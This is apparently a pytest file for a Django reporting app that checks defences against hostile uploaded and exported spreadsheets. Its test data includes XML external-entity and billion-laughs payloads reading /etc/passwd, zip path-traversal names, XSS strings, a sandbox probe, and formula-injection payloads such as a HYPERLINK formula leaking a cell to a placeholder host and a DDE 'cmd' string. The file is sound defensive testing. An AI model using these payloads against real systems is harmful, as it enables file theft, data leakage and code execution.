"""Attacks with files: those that people bring in, and those that we hand out and somebody opens in a spreadsheet."""

import csv
import io
import subprocess
import sys
import time
import zipfile
from datetime import date
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cases.models import ProblemCategory
from lk3.access import Permission
from lk3.models import AuditEvent, Unit, User
from reports.files import safe_text
from reports.models import Recap, RecapUpload
from reports.uploads.cells import Refused
from reports.uploads.reading import read_file
from tests.cast import As
from tests.lk3.test_attacks_statistics import proved
from tests.reports.semesters import WORDS, half_year_of, sent_report
from tests.reports.world import live_through_2016

SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
EVIL = '<script>alert(1)</script>"><img src=x onerror=alert(1)>{{ 7*7 }}{% debug %}'
FORMULA = '=HYPERLINK("http://contoh.invalid/?"&A1;"klik")'


def book(parts: dict[str, bytes | None]) -> bytes:
    """A small workbook in which some parts are replaced or added."""
    out, plain = io.BytesIO(), io.BytesIO()
    workbook = Workbook()
    for row in (["Masalah", "Jumlah"], ["Penelantaran", 3]):
        workbook.active.append(row)
    workbook.save(plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            if part.filename not in parts:
                new.writestr(part.filename, old.read(part))
        for name, content in parts.items():
            if content is not None:
                new.writestr(name, content)
    return out.getvalue()


def outcome(data: bytes) -> str:
    """What comes of the file: its cells or the sentence of its refusal, within the time of one page."""
    started = time.monotonic()
    try:
        said = str(read_file(data)["sheets"])
    except Refused as refused:
        said = str(refused)
    assert time.monotonic() - started < 30
    return said


def entities(kind: str) -> bytes:
    declared = {
        "file": '<!ENTITY a SYSTEM "file:///etc/passwd">',
        "net": '<!ENTITY a SYSTEM "http://127.0.0.1:9/">',
        "parameter": '<!ENTITY % p SYSTEM "file:///etc/passwd"> %p; <!ENTITY a "x">',
        "laughs": '<!ENTITY l0 "ha">'
        + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 12}">' for n in range(1, 10))
        + '<!ENTITY a "&l9;">',
    }[kind]
    return f"<?xml version='1.0'?><!DOCTYPE x [{declared}]>".encode()


@pytest.mark.parametrize("kind", ["file", "net", "parameter", "laughs"])
@pytest.mark.parametrize("part", [SHEET, STRINGS, "xl/workbook.xml", "xl/styles.xml", "docProps/core.xml"])
def test_no_entity_of_a_workbook_is_followed(kind: str, part: str) -> None:
    bodies = {
        SHEET: f'<worksheet xmlns="{NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row>'
        "</sheetData></worksheet>",
        STRINGS: f'<sst xmlns="{NS}"><si><t>&a;</t></si></sst>',
        "xl/workbook.xml": f'<workbook xmlns="{NS}"><sheets><sheet name="&a;" sheetId="1"/></sheets></workbook>',
        "xl/styles.xml": f'<styleSheet xmlns="{NS}"><x>&a;</x></styleSheet>',
        "docProps/core.xml": "<cp>&a;</cp>",
    }
    said = outcome(book({part: entities(kind) + bodies[part].encode()}))
    assert "root:" not in said
    assert "hahaha" not in said


@pytest.mark.parametrize(
    "name", ["../../../../tmp/jahat.txt", "/etc/cron.d/jahat", "xl/../../jahat", "xl\\..\\jahat", "xl/" + "a/" * 900]
)
def test_the_names_inside_a_workbook_lead_nowhere(name: str) -> None:
    assert "Penelantaran" in outcome(book({name: b"x"}))


def test_macros_links_and_pictures_of_a_workbook_are_passed_over() -> None:
    said = outcome(
        book(
            {
                "xl/vbaProject.bin": b"\xd0\xcf" * 100,
                "xl/externalLinks/externalLink1.xml": entities("file") + b"<externalLink>&a;</externalLink>",
                "xl/media/image1.svg": b"<svg onload='alert(1)'/>",
            }
        )
    )
    assert "Penelantaran" in said


@pytest.mark.parametrize(
    "cells",
    [
        "".join(f'<c r="XFD{n}"><v>1</v></c>' for n in (1, 1)),
        '<c r="ZZZ1"><v>1</v></c>',
        '<c r="A1048576"><v>1</v></c>',
        '<c r="A9999999"><v>1</v></c>',
        "<c><v>1</v></c>" * 1_000_000,
        "<a>" * 200_000 + "</a>" * 200_000,
        '<c r="A1"><v>1e999</v></c><c r="B1"><v>-0</v></c><c r="C1"><v>NaN</v></c><c r="D1"><v>१२</v></c>',
        '<c r="A1" t="s"><v>99999999</v></c>',
        '<c r="A1" t="d"><v>9999-99-99</v></c><c r="B1" s="4000000"><v>1</v></c>',
    ],
)
def test_a_monstrous_sheet_ends_in_a_sentence_or_in_cells(cells: str) -> None:
    xml = f'<worksheet xmlns="{NS}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
    said = outcome(book({SHEET: xml.encode()}))
    assert said
    assert "Traceback" not in said


def test_merged_cells_over_the_whole_sheet_cost_nothing() -> None:
    merged = '<mergeCell ref="A1:XFD1048576"/>' * 2000
    xml = (
        f'<worksheet xmlns="{NS}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>'
        f"<mergeCells>{merged}</mergeCells></worksheet>"
    )
    assert outcome(book({SHEET: xml.encode()}))


PROBE = """
import sys
sys.path.insert(0, {root!r})
import os, resource, socket
from reports.uploads import child
child._import_everything()
child._bind()
def tried(name, act):
    try:
        act()
        print(name, "WORKED")
    except OSError:
        print(name, "refused")
tried("database", lambda: open({database!r}))
tried("passwords", lambda: open("/etc/passwd"))
tried("new file", lambda: open("/tmp/lk3-jahat", "w"))
tried("network", socket.socket)
tried("folder", lambda: os.listdir("/"))
print("processes", resource.getrlimit(resource.RLIMIT_NPROC))
print("environment", sorted(set(os.environ) - {{"LC_CTYPE", "PYTHONDONTWRITEBYTECODE", "PYTHONIOENCODING"}}))
"""


def test_the_process_that_opens_files_reaches_nothing_of_ours() -> None:
    probe = PROBE.format(root=str(settings.BASE_DIR), database=str(settings.BASE_DIR / "manage.py"))
    env = {"PYTHONDONTWRITEBYTECODE": "1", "PYTHONIOENCODING": "utf-8"}
    done = subprocess.run([sys.executable, "-c", probe], env=env, capture_output=True, text=True, check=True)
    assert "WORKED" not in done.stdout
    assert done.stdout.count("refused") == 5
    assert "processes (0, 0)" in done.stdout
    assert "environment []" in done.stdout


def test_the_child_gets_no_key_of_ours(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: dict[str, Any] = {}
    real = subprocess.Popen

    def spy(command: Any, **options: Any) -> Any:
        seen.update(options)
        return real(command, **options)

    monkeypatch.setattr("reports.uploads.reading.subprocess.Popen", spy)
    read_file(b"Masalah;Jan\nPenelantaran;3\n")
    assert set(seen["env"]) == {"PYTHONDONTWRITEBYTECODE", "PYTHONIOENCODING"}
    assert not seen.get("shell")
    assert seen.get("close_fds", True)


# Words of a file on our pages


@pytest.mark.django_db
def test_words_of_a_file_are_words_on_every_page(budi: User, as_: As) -> None:
    client = proved(as_(budi), Permission.RECAP_IMPORT)
    content = io.BytesIO()
    workbook = Workbook()
    workbook.active.title = "<b onclick=x>"
    for row in (["Rekap 2017", None], ["Masalah", "Jan"], [EVIL, 3], ["Penelantaran", EVIL], [FORMULA + "x", 4]):
        workbook.active.append(row)
    workbook.save(content)
    file = SimpleUploadedFile(f"{EVIL}.xlsx", content.getvalue())
    sent = {"berkas": file, "wilayah": f"lk3-{budi.hat.unit_id}", "sumber": EVIL, "tanggal_sumber": "2018-01-05"}
    client.post(reverse("reports:recap-upload"), sent)
    upload = RecapUpload.objects.get()
    for address in (reverse("reports:recap-check", args=[upload.uid]), reverse("reports:recap-list")):
        html = client.get(address).content.decode()
        assert "&lt;script&gt;" in html
        assert "<script>alert" not in html
        assert "<img src=x" not in html
        assert "<b onclick" not in html
    for event in AuditEvent.objects.all():
        assert "script" not in str(event.detail)
        assert "script" not in event.object_id


@pytest.mark.django_db
def test_words_of_a_report_are_words_on_page_paper_and_in_files(siti: User, budi: User, wati: User, as_: As) -> None:
    half_year_of(siti)
    Unit.objects.filter(pk=budi.hat.unit_id).update(name=f"LK3 {EVIL}"[:120])
    WORDS_BEFORE = dict(WORDS)
    try:
        WORDS.update(dict.fromkeys(("number", "signatory", "signatory_post"), f"{FORMULA} {EVIL}"[:60]))
        WORDS.update(dict.fromkeys(("activities", "obstacles", "plans"), f"{FORMULA} {EVIL}"))
        report = sent_report(budi)
    finally:
        WORDS.update(WORDS_BEFORE)
    client = proved(as_(wati), Permission.STATISTICS_EXPORT)
    client.get(report.get_absolute_url())
    report.refresh_from_db()
    sent = {"version": report.version, "langkah": "kembalikan", "note": EVIL}
    client.post(reverse("reports:semester-decide", args=[report.uid]), sent)
    for name in ("semester-report", "semester-print"):
        html = client.get(reverse(f"reports:{name}", args=[report.uid])).content.decode()
        assert "&lt;script&gt;" in html, name
        assert "<script>alert" not in html, name
        assert "<img src=x" not in html, name
    answer = client.get(reverse("reports:semester-xlsx", args=[report.uid]))
    assert not formulas_of(answer.content)
    disposition = answer.headers["Content-Disposition"]
    assert "script" not in disposition
    assert "\n" not in disposition
    for event in AuditEvent.objects.all():
        assert "script" not in str(event.detail)
        assert "HYPERLINK" not in str(event.detail)


def formulas_of(content: bytes) -> list[str]:
    """Cells that a spreadsheet would compute, and links it would follow."""
    found = [
        cell.coordinate
        for sheet in load_workbook(io.BytesIO(content))
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or cell.hyperlink
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return found + [name for name in archive.namelist() if "externalLink" in name or "vba" in name]


# What we hand out


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋"])
def test_no_text_begins_as_a_formula(start: str) -> None:
    assert safe_text(f"{start}1+1").startswith("'")


@pytest.mark.parametrize("sign", [",", ";", "\t", "\n", "|"])
def test_no_text_becomes_a_formula_where_the_line_is_parted_at_another_sign(sign: str) -> None:
    cells = safe_text(f"LK3 Melati{sign}=cmd|' /C calc'!A0{sign}x").split(sign)
    assert not [cell for cell in cells if cell.startswith("=")]


def test_plain_names_stay_as_they_are() -> None:
    for name in ("LK3 Melati, Kota Padang", "6–12 tahun", "Jl. Sudirman 5-7; RT 3", "A = B", "1 + 1", "a@b.id"):
        assert safe_text(name) == name


CSVS = ["reports:breakdown-csv", "reports:dashboard-csv", "reports:psks", "reports:unit-list-csv"]


@pytest.mark.django_db
@pytest.mark.parametrize("name", CSVS)
def test_no_csv_runs_the_name_of_a_unit(name: str, siti: User, ratna: User, wati: User, as_: As) -> None:
    live_through_2016(siti, ratna)
    Unit.objects.filter(pk=siti.hat.unit_id).update(name=FORMULA, address="@SUM(1)")
    client = proved(as_(wati), *Permission)
    answer = client.get(reverse(name), {"tahun": "2016", "lk3": siti.hat.unit_id})
    content = b"".join(answer) if answer.streaming else answer.content
    assert b"HYPERLINK" in content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@", "+", "\t", "\r", "\n"))]


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["reports:breakdown-xlsx", "reports:dashboard-xlsx"])
def test_no_workbook_runs_the_name_of_a_unit(name: str, siti: User, ratna: User, wati: User, as_: As) -> None:
    live_through_2016(siti, ratna)
    Unit.objects.filter(pk=siti.hat.unit_id).update(name=FORMULA)
    content = proved(as_(wati), *Permission).get(reverse(name), {"tahun": "2016", "lk3": siti.hat.unit_id}).content
    assert "HYPERLINK" in str([list(sheet.values) for sheet in load_workbook(io.BytesIO(content))])
    assert not formulas_of(content)


@pytest.mark.django_db
def test_a_source_typed_by_an_office_is_words_on_the_page_of_its_recap(budi: User, as_: As) -> None:
    recap = Recap.objects.create(
        key="rekap-kata", title=EVIL[:160], year=2014, unit=budi.hat.unit, source=EVIL, note=EVIL,
        source_on=date(2015, 1, 1),
    )  # fmt: skip
    recap.rows.create(category=ProblemCategory.objects.roots()[0], count=7)
    html = as_(budi).get(reverse("reports:recap", args=[recap.key])).content.decode()
    assert "&lt;script&gt;" in html
    assert "<script>alert" not in html
    assert "<img src=x" not in html
